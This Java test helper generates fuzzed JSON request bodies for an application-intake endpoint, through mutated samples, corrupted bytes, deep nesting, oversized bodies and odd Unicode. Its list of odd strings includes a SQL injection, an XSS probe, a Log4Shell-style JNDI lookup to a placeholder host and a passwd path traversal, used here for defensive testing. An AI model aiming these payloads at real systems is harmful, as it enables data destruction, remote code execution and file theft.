package cn.eport.intake;

import java.math.BigDecimal;
import java.math.BigInteger;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.function.Predicate;
import java.util.function.UnaryOperator;
import java.util.stream.Collectors;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.Tuple;
import org.jspecify.annotations.Nullable;
import tools.jackson.core.json.JsonWriteFeature;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.databind.node.ArrayNode;
import tools.jackson.databind.node.JsonNodeFactory;
import tools.jackson.databind.node.ObjectNode;

/**
 * Request bodies to throw at a JSON endpoint, most of them made from valid samples so that they get
 * past the parser and into the handler: samples with fields replaced by values of the wrong type,
 * by text from every Unicode general category, full-width digits, control and bidirectional
 * characters, or huge strings; fields removed or added; then the same as bytes truncated or
 * corrupted, bodies larger than the request limit, deeply nested values, and things that are not
 * JSON at all, now and then under another content type. Each body says what it is, so that a
 * failing try reads as "truncated at 37: {"enterp..." rather than as bytes.
 *
 * <p>The same generator is in each module with a fuzz test (test classes are not shared between
 * modules); {@link Tally} counts the answers by status class for the line each fuzz test logs.
 */
final class FuzzBodies {

    /** A body as sent: what it is, its bytes, and its Content-Type header (none when null). */
    record Body(String kind, byte[] bytes, @Nullable String contentType) {

        @Override
        public String toString() {
            String text = new String(bytes, 0, Math.min(bytes.length, 300), StandardCharsets.UTF_8);
            return kind + " (" + bytes.length + " bytes, " + contentType + "): " + text + (bytes.length > 300 ? "..." : "");
        }
    }

    /** Answers counted by status class: the line a fuzz test logs for the note. */
    static final class Tally {

        private final int[] byClass = new int[6];
        private int bodies;

        synchronized void add(int status) {
            bodies++;
            byClass[Math.max(0, Math.min(5, status / 100))]++;
        }

        synchronized String line(String endpoint) {
            return "fuzz " + endpoint + ": " + bodies + " bodies, 2xx=" + byClass[2] + ", 3xx=" + byClass[3] + ", 4xx=" + byClass[4]
                    + ", 5xx=" + byClass[5];
        }
    }

    /**
     * What a successful request uses up (a rejected application once amended, a case once decided): each try picks
     * among those left, so that valid bodies keep getting through to the database until all are used.
     */
    static final class Pool {

        private final List<String> left;
        private final String whenAllUsed;

        Pool(List<String> items) {
            this.left = new CopyOnWriteArrayList<>(items);
            this.whenAllUsed = items.get(0);
        }

        Arbitrary<String> arbitrary() {
            return Arbitraries.integers().between(0, Integer.MAX_VALUE).map(i -> {
                List<String> now = List.copyOf(left);
                return now.isEmpty() ? whenAllUsed : now.get(i % now.size());
            });
        }

        void usedUp(Predicate<String> which) {
            left.removeIf(which);
        }

        int left() {
            return left.size();
        }
    }

    /** Over the platform's 64 KiB request limit. */
    static final int BEYOND_LIMIT = 64 * 1024 + 1;

    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;
    private static final JsonMapper JSON = JsonMapper.builder().build();
    /** Writes every non-ASCII character as a backslash-u escape, which also carries half surrogates and NULs intact. */
    private static final JsonMapper ESCAPING = JsonMapper.builder().enable(JsonWriteFeature.ESCAPE_NON_ASCII).build();

    /** Every Unicode general category this JDK knows, with its code points. */
    private static final Map<Integer, int[]> CODE_POINTS_BY_CATEGORY = codePointsByCategory();

    private static final List<String> ODD_STRINGS = List.of("", " ", "\u3000", "null", "true", "0", "-1", "1e309", "NaN",
            "'; DROP TABLE applications; --", "<script>alert(1)</script>", "${jndi:ldap://example.invalid/a}", "../../etc/passwd",
            "%00", "\\", "\"", "{}", "[]", "\uFEFF", "\uFFFD", "\uFFFF", "\uDBFF\uDFFF", "Ａ".repeat(60), "0".repeat(50),
            "YY2026000000011", "M000100Y-4", "91350100M000100Y43", "11010519491231002X", "REJECTED", "APPROVED", "REFERRED",
            "DOMESTIC", "domestic", "FOREIGN_INVESTED ");

    /**
     * Content types other than plain application/json; NONE sends no Content-Type header. Not among them: an empty
     * or unknown charset, on which MockMvc's own filter wrapper throws before the application sees the request (the
     * real server answers 415).
     */
    private static final String NONE = "(none)";
    private static final List<String> CONTENT_TYPES = List.of("application/json;charset=UTF-8",
            "application/json;charset=ISO-8859-1", "application/json;charset=UTF-16", "application/json;charset=GB18030",
            "application/merge-patch+json", "application/problem+json", "text/plain",
            "application/x-www-form-urlencoded", "application/xml", "multipart/form-data", "*/*", "application/*", "json", NONE);

    private FuzzBodies() {
    }

    /** Bodies around the given valid samples (JSON text), in the mix the class comment describes. */
    static Arbitrary<Body> around(List<String> samples) {
        List<JsonNode> trees = samples.stream().map(JSON::readTree).toList();
        return around(Arbitraries.of(trees));
    }

    /** Bodies around the samples left in the pool. */
    static Arbitrary<Body> around(Pool samples) {
        return around(samples.arbitrary().map(JSON::readTree));
    }

    private static Arbitrary<Body> around(Arbitrary<JsonNode> sample) {
        return Arbitraries.frequencyOf(
                Tuple.of(6, sample.map(tree -> json("valid sample", tree, false))),
                Tuple.of(26, mutated(sample)),
                Tuple.of(12, withPlausibleText(sample)),
                Tuple.of(10, withHostileText(sample)),
                Tuple.of(10, truncated(sample)),
                Tuple.of(8, corrupted(sample)),
                Tuple.of(8, anyValue(2).map(tree -> json("random JSON", tree, false))),
                Tuple.of(7, huge(sample)),
                Tuple.of(6, deeplyNested()),
                Tuple.of(6, notJson()),
                Tuple.of(6, Combinators.combine(sample, Arbitraries.of(CONTENT_TYPES)).as((tree, type) ->
                        new Body("valid sample as " + type, bytes(tree, false), NONE.equals(type) ? null : type))),
                Tuple.of(3, Combinators.combine(mutated(sample), Arbitraries.of(CONTENT_TYPES)).as((body, type) ->
                        new Body(body.kind() + " as " + type, body.bytes(), NONE.equals(type) ? null : type))));
    }

    /** Text of every kind: from every general category, full-width, with controls, huge, odd. */
    static Arbitrary<String> text() {
        return Arbitraries.frequencyOf(
                Tuple.of(5, everyCategory()),
                Tuple.of(3, oneCategory()),
                Tuple.of(2, fullWidthDigits()),
                Tuple.of(3, withAControlCharacter()),
                Tuple.of(2, Arbitraries.strings().ascii().ofMaxLength(60)),
                Tuple.of(2, Arbitraries.strings().withCharRange('\u4E00', '\u9FFF').ofMinLength(1).ofMaxLength(250)),
                Tuple.of(2, Arbitraries.of(ODD_STRINGS)),
                Tuple.of(1, hugeString()));
    }

    /** A sample with one to three of its fields replaced, removed, doubled, widened or joined by a stranger. */
    private static Arbitrary<Body> mutated(Arbitrary<JsonNode> sample) {
        return sample.flatMap(tree -> Combinators.combine(mutation(tree).list().ofMinSize(1).ofMaxSize(3), Arbitraries.of(true, false))
                .as((mutations, escaped) -> {
                    JsonNode copy = tree.deepCopy();
                    for (Mutation mutation : mutations) {
                        copy = mutation.apply(copy);
                    }
                    return json("mutated sample (" + mutations.stream().map(Mutation::toString).collect(Collectors.joining("; ")) + ")",
                            copy, escaped);
                }));
    }

    /** A sample with one text field replaced by text a person might type: many of these pass the checks and are stored. */
    private static Arbitrary<Body> withPlausibleText(Arbitrary<JsonNode> sample) {
        Arbitrary<Integer> plausible = Arbitraries.frequencyOf(
                Tuple.of(5, Arbitraries.integers().between(0x4E00, 0x9FFF)),
                Tuple.of(2, Arbitraries.integers().between(0x20, 0x7E)),
                Tuple.of(2, Arbitraries.integers().between(0xFF01, 0xFF5E)),
                Tuple.of(1, Arbitraries.integers().between(0xE000, 0xF8FF)),
                Tuple.of(1, Arbitraries.integers().between(0x20000, 0x2A6DF)),
                Tuple.of(1, Arbitraries.integers().between(0x1F300, 0x1F64F)),
                Tuple.of(1, Arbitraries.of(0x3000, 0x00B7, 0x2014, 0xFF08, 0xFF09, 0x3001)),
                Tuple.of(1, Arbitraries.of(unassignedOrPrivate())));
        Arbitrary<String> text = plausible.list().ofMinSize(1).ofMaxSize(40).map(FuzzBodies::fromCodePoints);
        return sample.flatMap(tree -> {
            List<List<Object>> strings = paths(tree).stream().filter(path -> at(tree, path).isString()).toList();
            return Combinators.combine(Arbitraries.of(strings), text, Arbitraries.of(true, false)).as((path, value, escaped) ->
                    json("sample with " + describe(path) + " = plausible text", replaced(tree, path, NODES.stringNode(value)), escaped));
        });
    }

    /** A sample with one text field replaced by short text of any kind: controls, NULs, bidirectional overrides, any category. */
    private static Arbitrary<Body> withHostileText(Arbitrary<JsonNode> sample) {
        Arbitrary<String> hostile = Arbitraries.frequencyOf(Tuple.of(3, withAControlCharacter()), Tuple.of(2, everyCategory()),
                Tuple.of(2, oneCategory()), Tuple.of(1, fullWidthDigits()));
        return sample.flatMap(tree -> {
            List<List<Object>> strings = paths(tree).stream().filter(path -> at(tree, path).isString()).toList();
            return Combinators.combine(Arbitraries.of(strings), hostile, Arbitraries.of(true, false)).as((path, value, escaped) ->
                    json("sample with " + describe(path) + " = hostile text", replaced(tree, path, NODES.stringNode(value)), escaped));
        });
    }

    private static Arbitrary<Body> truncated(Arbitrary<JsonNode> sample) {
        return Combinators.combine(Arbitraries.frequencyOf(Tuple.of(1, sample), Tuple.of(1, mutatedTree(sample))),
                Arbitraries.doubles().between(0, 1)).as((tree, fraction) -> {
                    byte[] whole = bytes(tree, false);
                    int at = (int) (fraction * (whole.length - 1));
                    return new Body("truncated at " + at, Arrays.copyOf(whole, at), "application/json");
                });
    }

    /** The sample's bytes with bytes overwritten, inserted, deleted or repeated: broken UTF-8 and broken JSON. */
    private static Arbitrary<Body> corrupted(Arbitrary<JsonNode> sample) {
        Arbitrary<int[]> edit = Combinators.combine(Arbitraries.integers().between(0, 3), Arbitraries.doubles().between(0, 1),
                Arbitraries.integers().between(0, 255)).as((kind, where, value) -> new int[] {kind, (int) (where * 1_000_000), value});
        return Combinators.combine(sample, edit.list().ofMinSize(1).ofMaxSize(6)).as((tree, edits) -> {
            List<Byte> bytes = new ArrayList<>();
            for (byte b : bytes(tree, false)) {
                bytes.add(b);
            }
            for (int[] e : edits) {
                int at = e[1] % Math.max(1, bytes.size());
                switch (e[0]) {
                    case 0 -> bytes.set(at, (byte) e[2]);
                    case 1 -> bytes.add(at, (byte) e[2]);
                    case 2 -> bytes.remove(at);
                    default -> bytes.addAll(at, new ArrayList<>(bytes.subList(at, Math.min(bytes.size(), at + 1 + e[2] % 40))));
                }
                if (bytes.isEmpty()) {
                    bytes.add((byte) '{');
                }
            }
            byte[] out = new byte[bytes.size()];
            for (int i = 0; i < out.length; i++) {
                out[i] = bytes.get(i);
            }
            return new Body("corrupted bytes (" + edits.size() + " edits)", out, "application/json");
        });
    }

    /** Strings, lists and whole bodies around and beyond the request limit. */
    private static Arbitrary<Body> huge(Arbitrary<JsonNode> sample) {
        Arbitrary<Body> hugeField = sample.flatMap(tree -> {
            List<List<Object>> strings = paths(tree).stream().filter(path -> at(tree, path).isString()).toList();
            return Combinators.combine(Arbitraries.of(strings), hugeString()).as((path, value) ->
                    json("sample with " + describe(path) + " of " + value.length() + " chars", replaced(tree, path, NODES.stringNode(value)), false));
        });
        Arbitrary<Body> longList = sample.flatMap(tree -> {
            List<List<Object>> lists = paths(tree).stream().filter(path -> at(tree, path).isArray()).toList();
            if (lists.isEmpty()) {
                return Arbitraries.just(json("valid sample", tree, false));
            }
            return Combinators.combine(Arbitraries.of(lists), Arbitraries.integers().between(51, 3000)).as((path, count) -> {
                ArrayNode many = NODES.arrayNode();
                JsonNode first = at(tree, path).isEmpty() ? NODES.stringNode("x") : at(tree, path).get(0);
                for (int i = 0; i < count; i++) {
                    many.add(first.deepCopy());
                }
                return json("sample with " + describe(path) + " of " + count + " elements", replaced(tree, path, many), false);
            });
        });
        Arbitrary<Body> padded = Arbitraries.integers().between(BEYOND_LIMIT, 3 * BEYOND_LIMIT).map(size ->
                new Body("whitespace-padded body of " + size + " bytes", (" ".repeat(size - 2) + "{}").getBytes(StandardCharsets.UTF_8),
                        "application/json"));
        return Arbitraries.oneOf(hugeField, longList, padded);
    }

    private static Arbitrary<Body> deeplyNested() {
        return Combinators.combine(Arbitraries.integers().between(2, 40_000), Arbitraries.of("[", "{\"a\":", "{\"enterprise\":"),
                Arbitraries.of(true, false)).as((depth, open, closed) -> {
                    String close = open.equals("[") ? "]" : "}";
                    String body = open.repeat(depth) + "1" + (closed ? close.repeat(depth) : "");
                    return new Body("nested " + depth + " deep" + (closed ? "" : ", unclosed"), body.getBytes(StandardCharsets.UTF_8),
                            "application/json");
                });
    }

    private static Arbitrary<Body> notJson() {
        return Arbitraries.oneOf(
                Arbitraries.of("", "null", "true", "1", "\"text\"", "hello", "<application/>", "a=b&c=d", "{", "}", "[", "\"",
                        "{\"enterprise\": }", "{,}", "{\"a\" 1}", "{'a': 'b'}", "{\"a\": 1} {\"a\": 2}", "{\"a\": 01}", "{\"a\": .5}",
                        "{\"a\": NaN}", "{\"a\": Infinity}", "/* comment */ {}", "\uFEFF{}", "{\"a\": \"\\x00\"}", "{\"a\": \"\\u00\"}",
                        "{\"a\": \"\\ud800\"}", "{\"a\": \"\u0000\"}", "{\"a\": \"\u0001\n\"}")
                        .map(text -> new Body("not JSON or odd JSON: " + text, text.getBytes(StandardCharsets.UTF_8), "application/json")),
                Arbitraries.bytes().array(byte[].class).ofMaxSize(2000).map(bytes -> new Body("random bytes", bytes, "application/json")),
                Arbitraries.strings().ofMaxLength(200).map(text ->
                        new Body("UTF-16 text", text.getBytes(StandardCharsets.UTF_16), "application/json")));
    }

    // --- values -------------------------------------------------------------------------------

    /** Any JSON value, nested up to {@code depth} containers deep. */
    static Arbitrary<JsonNode> anyValue(int depth) {
        List<Tuple.Tuple2<Integer, Arbitrary<JsonNode>>> choices = new ArrayList<>(List.of(
                Tuple.of(6, text().map(s -> (JsonNode) NODES.stringNode(s))),
                Tuple.of(3, numbers()),
                Tuple.of(1, Arbitraries.of(true, false).map(b -> (JsonNode) NODES.booleanNode(b))),
                Tuple.of(1, Arbitraries.just((JsonNode) NODES.nullNode())),
                Tuple.of(1, Arbitraries.integers().between(2, 450).map(FuzzBodies::nestedArrays))));
        if (depth > 0) {
            choices.add(Tuple.of(2, anyValue(depth - 1).list().ofMaxSize(6).map(values -> {
                ArrayNode array = NODES.arrayNode();
                values.forEach(array::add);
                return (JsonNode) array;
            })));
            choices.add(Tuple.of(2, Combinators.combine(text(), anyValue(depth - 1)).as(Map::entry).list().ofMaxSize(6).map(entries -> {
                ObjectNode object = NODES.objectNode();
                entries.forEach(e -> object.set(e.getKey(), e.getValue()));
                return (JsonNode) object;
            })));
        }
        return Arbitraries.frequencyOf(choices);
    }

    private static Arbitrary<JsonNode> numbers() {
        return Arbitraries.oneOf(
                Arbitraries.integers().map(i -> (JsonNode) NODES.numberNode(i)),
                Arbitraries.longs().map(l -> (JsonNode) NODES.numberNode(l)),
                Arbitraries.doubles().map(d -> (JsonNode) NODES.numberNode(d)),
                Arbitraries.of(0, -1, 1, Integer.MAX_VALUE, Integer.MIN_VALUE).map(i -> (JsonNode) NODES.numberNode(i)),
                Arbitraries.integers().between(19, 2500).map(digits -> (JsonNode) NODES.numberNode(new BigInteger("9".repeat(digits)))),
                Arbitraries.of("1e400", "-1e-400", "123456789012345678901234567890.5", "0.0000000000000000000001")
                        .map(s -> (JsonNode) NODES.numberNode(new BigDecimal(s))));
    }

    private static JsonNode nestedArrays(int depth) {
        JsonNode node = NODES.numberNode(1);
        for (int i = 0; i < depth; i++) {
            node = NODES.arrayNode().add(node);
        }
        return node;
    }

    private static Arbitrary<String> everyCategory() {
        return categories().flatMap(FuzzBodies::codePointOf).list().ofMinSize(1).ofMaxSize(30).map(FuzzBodies::fromCodePoints);
    }

    private static Arbitrary<String> oneCategory() {
        return categories().flatMap(category -> codePointOf(category).list().ofMinSize(1).ofMaxSize(20)).map(FuzzBodies::fromCodePoints);
    }

    private static Arbitrary<Integer> categories() {
        return Arbitraries.of(List.copyOf(CODE_POINTS_BY_CATEGORY.keySet()));
    }

    private static Arbitrary<Integer> codePointOf(int category) {
        int[] codePoints = CODE_POINTS_BY_CATEGORY.get(category);
        return Arbitraries.integers().between(0, codePoints.length - 1).map(i -> codePoints[i]);
    }

    private static Arbitrary<String> fullWidthDigits() {
        return Arbitraries.strings().withCharRange('\uFF10', '\uFF19').withChars('－', '（', '）', '＋').ofMinLength(1).ofMaxLength(20);
    }

    private static Arbitrary<String> withAControlCharacter() {
        return Combinators.combine(Arbitraries.strings().withCharRange('\u4E00', '\u9FFF').ofMaxLength(10),
                Arbitraries.frequencyOf(Tuple.of(4, Arbitraries.just(0x00)), Tuple.of(1, Arbitraries.of(0x09, 0x0A, 0x0D, 0x1B, 0x7F,
                        0x85, 0x200B, 0x200E, 0x200F, 0x202A, 0x202E, 0x2066, 0x2069, 0x2028, 0xFEFF, 0xD800, 0xDC00))),
                Arbitraries.strings().withCharRange('\u4E00', '\u9FFF').ofMaxLength(10))
                .as((before, control, after) -> before + new String(Character.toChars(control)) + after);
    }

    private static Arbitrary<String> hugeString() {
        return Combinators.combine(Arbitraries.of("x", "福", "\u0000", "０", "😀"), Arbitraries.integers().between(200, 80_000))
                .as((unit, count) -> unit.repeat(count));
    }

    private static List<Integer> unassignedOrPrivate() {
        return List.of(0x0378, 0x0870, 0x2FFFF, 0x3134B, 0xE0000, 0xF0000, 0x10FFFD, 0xFFFE, 0x1FFFF);
    }

    private static String fromCodePoints(List<Integer> codePoints) {
        StringBuilder text = new StringBuilder();
        codePoints.forEach(text::appendCodePoint);
        return text.toString();
    }

    private static Map<Integer, int[]> codePointsByCategory() {
        Map<Integer, List<Integer>> lists = new LinkedHashMap<>();
        for (int codePoint = 0; codePoint <= Character.MAX_CODE_POINT; codePoint++) {
            lists.computeIfAbsent(Character.getType(codePoint), type -> new ArrayList<>()).add(codePoint);
        }
        Map<Integer, int[]> arrays = new LinkedHashMap<>();
        lists.forEach((type, codePoints) -> arrays.put(type, codePoints.stream().mapToInt(Integer::intValue).toArray()));
        return arrays;
    }

    // --- trees --------------------------------------------------------------------------------

    /** One change to a body's tree, at a path of its fields and indexes. */
    private record Mutation(String what, List<Object> path, UnaryOperator<JsonNode> change) {

        JsonNode apply(JsonNode tree) {
            return change.apply(tree);
        }

        @Override
        public String toString() {
            return what + " " + describe(path);
        }
    }

    private static Arbitrary<JsonNode> mutatedTree(Arbitrary<JsonNode> sample) {
        return sample.flatMap(tree -> mutation(tree).map(m -> m.apply(tree.deepCopy())));
    }

    private static Arbitrary<Mutation> mutation(JsonNode tree) {
        Arbitrary<List<Object>> path = Arbitraries.of(paths(tree));
        return Arbitraries.frequencyOf(
                Tuple.of(6, Combinators.combine(path, anyValue(1)).as((p, value) -> new Mutation("replace", p, t -> replaced(t, p, value)))),
                Tuple.of(4, Combinators.combine(path, text()).as((p, value) ->
                        new Mutation("text at", p, t -> replaced(t, p, NODES.stringNode(value))))),
                Tuple.of(2, path.map(p -> new Mutation("remove", p, t -> removed(t, p)))),
                Tuple.of(2, path.map(p -> new Mutation("full-width", p, t -> at(t, p).isString()
                        ? replaced(t, p, NODES.stringNode(fullWidth(at(t, p).asString()))) : t))),
                Tuple.of(1, path.map(p -> new Mutation("wrap in an array", p, t -> at(t, p).isMissingNode()
                        ? t : replaced(t, p, NODES.arrayNode().add(at(t, p).deepCopy()))))),
                Tuple.of(1, Combinators.combine(path, text(), anyValue(0)).as((p, name, value) ->
                        new Mutation("add field '" + name + "' beside", p, t -> added(t, p, name, value)))));
    }

    /** Every path in the tree, the root's included: {@code ["operators", 1, "name"]}. */
    private static List<List<Object>> paths(JsonNode tree) {
        List<List<Object>> paths = new ArrayList<>();
        collect(tree, new ArrayList<>(), paths);
        return paths;
    }

    private static void collect(JsonNode node, List<Object> path, List<List<Object>> paths) {
        paths.add(List.copyOf(path));
        if (node.isObject()) {
            for (Map.Entry<String, JsonNode> field : node.properties()) {
                path.add(field.getKey());
                collect(field.getValue(), path, paths);
                path.remove(path.size() - 1);
            }
        } else if (node.isArray()) {
            for (int i = 0; i < node.size(); i++) {
                path.add(i);
                collect(node.get(i), path, paths);
                path.remove(path.size() - 1);
            }
        }
    }

    private static JsonNode at(JsonNode tree, List<Object> path) {
        JsonNode node = tree;
        for (Object step : path) {
            JsonNode next = step instanceof Integer index ? node.get(index) : node.get((String) step);
            if (next == null) {
                return NODES.missingNode();
            }
            node = next;
        }
        return node;
    }

    private static JsonNode replaced(JsonNode tree, List<Object> path, JsonNode value) {
        if (path.isEmpty()) {
            return value;
        }
        JsonNode copy = tree.deepCopy();
        JsonNode parent = at(copy, path.subList(0, path.size() - 1));
        Object last = path.get(path.size() - 1);
        if (parent instanceof ObjectNode object && last instanceof String name) {
            object.set(name, value);
        } else if (parent instanceof ArrayNode array && last instanceof Integer index && index < array.size()) {
            array.set(index, value);
        }
        return copy;
    }

    private static JsonNode removed(JsonNode tree, List<Object> path) {
        if (path.isEmpty()) {
            return NODES.objectNode();
        }
        JsonNode copy = tree.deepCopy();
        JsonNode parent = at(copy, path.subList(0, path.size() - 1));
        Object last = path.get(path.size() - 1);
        if (parent instanceof ObjectNode object && last instanceof String name) {
            object.remove(name);
        } else if (parent instanceof ArrayNode array && last instanceof Integer index && index < array.size()) {
            array.remove((int) index);
        }
        return copy;
    }

    private static JsonNode added(JsonNode tree, List<Object> path, String name, JsonNode value) {
        JsonNode copy = tree.deepCopy();
        JsonNode parent = path.isEmpty() ? copy : at(copy, path.subList(0, path.size() - 1));
        if (parent instanceof ObjectNode object) {
            object.set(name, value);
        } else if (parent instanceof ArrayNode array) {
            array.add(value);
        }
        return copy;
    }

    private static String fullWidth(String text) {
        StringBuilder wide = new StringBuilder();
        text.codePoints().forEach(c -> wide.appendCodePoint(c > 0x20 && c < 0x7F ? c - 0x21 + 0xFF01 : c == ' ' ? 0x3000 : c));
        return wide.toString();
    }

    private static String describe(List<Object> path) {
        StringBuilder text = new StringBuilder();
        for (Object step : path) {
            if (step instanceof Integer index) {
                text.append('[').append(index).append(']');
            } else {
                text.append(text.isEmpty() ? "" : ".").append(step);
            }
        }
        return text.isEmpty() ? "body" : text.toString();
    }

    private static Body json(String kind, JsonNode tree, boolean escaped) {
        return new Body(kind + (escaped ? ", non-ASCII escaped" : ""), bytes(tree, escaped), "application/json");
    }

    /** As UTF-8, where half a surrogate pair becomes '?'; escaped, where it stays itself. */
    private static byte[] bytes(JsonNode tree, boolean escaped) {
        return escaped ? ESCAPING.writeValueAsBytes(tree) : JSON.writeValueAsString(tree).getBytes(StandardCharsets.UTF_8);
    }
}
